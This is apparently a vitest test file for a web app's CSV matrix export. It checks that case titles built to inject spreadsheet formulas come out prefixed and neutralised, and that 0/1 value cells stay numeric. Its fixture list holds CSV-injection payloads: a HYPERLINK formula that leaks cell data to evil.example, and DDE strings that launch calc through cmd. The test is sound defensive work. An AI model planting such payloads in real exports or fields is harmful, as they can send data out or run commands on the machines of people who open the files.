// Every CSV export (issue 13): case titles written to trick a spreadsheet into running a formula go out
// neutralised, the 0/1 cells R reads stay numbers, and no module other than models/csv.ts names a CSV or TSV
// content type (a new export without the neutralising cells would fail here).
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { createCase } from "~/models/cases.server";
import { createCode } from "~/models/codebook-edits.server";
import { createComparisonSet } from "~/models/comparison-sets.server";
import { saveCaseConditions } from "~/models/conditions.server";
import * as matrixExport from "~/routes/w.$workspaceId.matrix.export";
import { makeTeam, sampleFields } from "../helpers/fixtures";

const HOSTILE_TITLES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "Truce;=1+1",
];

let team: Awaited<ReturnType<typeof makeTeam>>;
let caseIds: string[] = [];
let codeId = "";

/** RFC 4180 cells: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') {
      quoted = true;
      wasQuoted = true;
    } else if (char === ",") {
      row.push(cell);
      cell = "";
      wasQuoted = false;
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      wasQuoted = false;
      i++;
    } else cell += char;
  }
  expect(cell === "" && !wasQuoted && row.length === 0).toBe(true);
  return rows;
}

beforeAll(async () => {
  team = await makeTeam();
  codeId = createCode(team.people.owner.member, {
    kind: "precondition",
    label: "Local channel",
    description: "",
    color: "#2563eb",
    parentId: null,
  }).id;
  caseIds = HOSTILE_TITLES.map((title, index) => {
    const id = createCase(team.people.editor.member, { ...sampleFields, title }).id;
    saveCaseConditions(team.people.editor.member, id, [
      { codeId, value: index % 2 === 0 ? "present" : "absent", note: "", seenSetAt: 0 },
    ]);
    return id;
  });
});

async function download(query: string) {
  const response = (await matrixExport.loader({
    request: new Request(`http://localhost/w/${team.workspace.id}/matrix/export?${query}`, {
      headers: { Cookie: team.people.editor.cookie },
    }),
    params: { workspaceId: team.workspace.id },
    context: { cspNonce: "" },
  })) as Response;
  expect(response.headers.get("Content-Type")).toMatch(/^text\/csv/);
  return parseCsv(await response.text());
}

function expectNeutralised(rows: string[][]) {
  const [header, ...cases] = rows;
  expect(header).toEqual(["case", "LOCAL_CHANNEL"]);
  const titles = cases.map(([title]) => title);
  for (const hostile of HOSTILE_TITLES.filter((title) => /^[=+\-@\t\r]/.test(title)))
    expect(titles).toContain(`'${hostile}`);
  expect(titles).toContain("Truce;=1+1");
  for (const title of titles) expect(title).not.toMatch(/^[=+\-@\t\r]/);
  // The 0/1 cells stay numbers for R (blank: not stated).
  const values = cases.map(([, value]) => value);
  expect(values).toEqual(expect.arrayContaining(["0", "1"]));
  for (const value of values) expect(["0", "1", ""]).toContain(value);
}

describe("CSV exports", () => {
  it("the workspace matrix neutralises every text cell and keeps its 0/1 cells", async () => {
    expectNeutralised(await download(`format=csv&col=${codeId}`));
  });

  it("a saved comparison set's matrix neutralises every text cell and keeps its 0/1 cells", async () => {
    const { id } = createComparisonSet(team.people.editor.member, {
      name: "Hostile titles",
      view: "matrix",
      caseIds,
      codeIds: [codeId],
      outcomeId: null,
      settings: {},
    });
    expectNeutralised(await download(`format=csv&set=${id}`));
  });

  it("are all of them: only models/csv.ts names a CSV or TSV content type", () => {
    const app = join(process.cwd(), "app");
    const files = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? files(path) : [path];
      });
    const naming = files(app).filter((file) =>
      /text\/(csv|tab-separated-values)|\.tsv\b/.test(readFileSync(file, "utf8")),
    );
    expect(naming.map((file) => relative(process.cwd(), file))).toEqual(["app/models/csv.ts"]);
  });
});
